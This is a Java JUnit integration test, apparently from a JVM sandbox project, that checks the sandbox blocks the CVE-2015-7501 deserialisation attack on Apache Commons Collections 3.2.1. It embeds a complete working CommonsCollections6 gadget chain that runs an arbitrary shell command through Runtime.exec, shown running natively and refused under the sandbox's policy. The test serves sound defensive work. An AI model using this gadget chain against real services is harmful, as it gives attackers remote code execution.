package io.jvisor.sandbox.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jvisor.sandbox.GuestSources;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A deserialisation gadget (CVE-2015-7501) in the library that had it: Apache Commons Collections
 * 3.2.1 from Maven Central, on the class path of a service of a few lines that reads its requests
 * as serialised objects. The attacker's request is ysoserial's chain {@code CommonsCollections6}:
 * deserialising a {@code HashSet} hashes a {@code TiedMapEntry}, whose {@code LazyMap} runs
 * {@code InvokerTransformer}s, which call {@code Runtime.exec} by reflection. Natively the
 * service runs the attacker's command; as a guest the reflective call goes to the trap of
 * {@code Runtime.exec}, and the default preset refuses the process.
 */
class DeserializationGadgetIT {

    /** The service, and the attacker's tool: {@code attack FILE COMMAND} writes the request. */
    private static final String SERVICE = """
            package app;

            import java.io.FileInputStream;
            import java.io.FileOutputStream;
            import java.io.ObjectInputStream;
            import java.io.ObjectOutputStream;
            import java.lang.reflect.Field;
            import java.util.HashMap;
            import java.util.HashSet;
            import java.util.Map;
            import org.apache.commons.collections.Transformer;
            import org.apache.commons.collections.functors.ChainedTransformer;
            import org.apache.commons.collections.functors.ConstantTransformer;
            import org.apache.commons.collections.functors.InvokerTransformer;
            import org.apache.commons.collections.keyvalue.TiedMapEntry;
            import org.apache.commons.collections.map.LazyMap;

            public final class Service {
                public static void main(String[] args) throws Exception {
                    if (args[0].equals("attack")) {
                        try (ObjectOutputStream out = new ObjectOutputStream(new FileOutputStream(args[1]))) {
                            out.writeObject(gadget(args[2]));
                        }
                        return;
                    }
                    try (ObjectInputStream in = new ObjectInputStream(new FileInputStream(args[1]))) {
                        System.out.println("request: " + in.readObject());
                    }
                }

                /** CommonsCollections6: the request's element is then the attacker's process, which the service prints. */
                static Object gadget(String command) throws Exception {
                    Transformer[] chain = {
                        new ConstantTransformer(Runtime.class),
                        new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class},
                                new Object[] {"getRuntime", new Class<?>[0]}),
                        new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
                        new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {new String[] {"sh", "-c", command}}),
                    };
                    ChainedTransformer armed = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
                    Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), armed);
                    HashSet<Object> request = new HashSet<>();
                    request.add(new TiedMapEntry(lazy, "key"));
                    lazy.clear();
                    Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
                    transformers.setAccessible(true);
                    transformers.set(armed, chain);
                    return request;
                }
            }
            """;

    @TempDir
    Path dir;

    /** The file the attacker's command writes. */
    private Path marker;
    /** The attacker's request, written natively by the attacker's tool. */
    private Path request;
    private Path classes;
    private Path collections;

    @BeforeEach
    void attackersRequest() throws IOException {
        try (Stream<Path> jars = Files.list(Launch.property("guest.commons-collections.dir"))) {
            collections = jars.filter(p -> p.getFileName().toString().endsWith(".jar")).findFirst().orElseThrow();
        }
        classes = GuestSources.compile(dir.resolve("service"), Map.of("app.Service", SERVICE), collections);
        marker = dir.resolve("PWNED");
        request = dir.resolve("request.bin");
        Launch.Result written = Launch.java(dir, "-cp", classPath(), "app.Service", "attack", request.toString(), "echo ran > " + marker);
        assertEquals(0, written.status(), written::toString);
    }

    private String classPath() {
        return classes + File.pathSeparator + collections;
    }

    @Test
    void nativelyTheServiceRunsTheAttackersCommand() throws Exception {
        Launch.Result run = Launch.java(dir, "-cp", classPath(), "app.Service", "serve", request.toString());

        assertEquals(0, run.status(), run::toString);
        Matcher process = Pattern.compile("Process\\[pid=(\\d+)").matcher(run.stdout());
        assertTrue(process.find(), run::toString);
        // the service ends before its process may: awaited, if it still runs
        ProcessHandle.of(Long.parseLong(process.group(1))).ifPresent(p -> p.onExit().join());
        assertTrue(Files.exists(marker), "the attacker's command ran");
    }

    @Test
    void asAGuestTheCommandsProcessIsRefused() {
        Launch.Result run = Launch.jvisor(dir, "run", "--disk", dir.resolve("disk").toString(),
                "--mount", request + ":/request.bin", "-cp", collections.toString(), "--main", "app.Service", classes.toString(),
                "serve", "/request.bin");

        assertFalse(Files.exists(marker), "the attacker's command did not run");
        assertEquals(1, run.status(), run::toString);
        assertTrue(run.stderr().contains("may not start processes: denied by policy rule 'deny process'"), run::toString);
    }
}
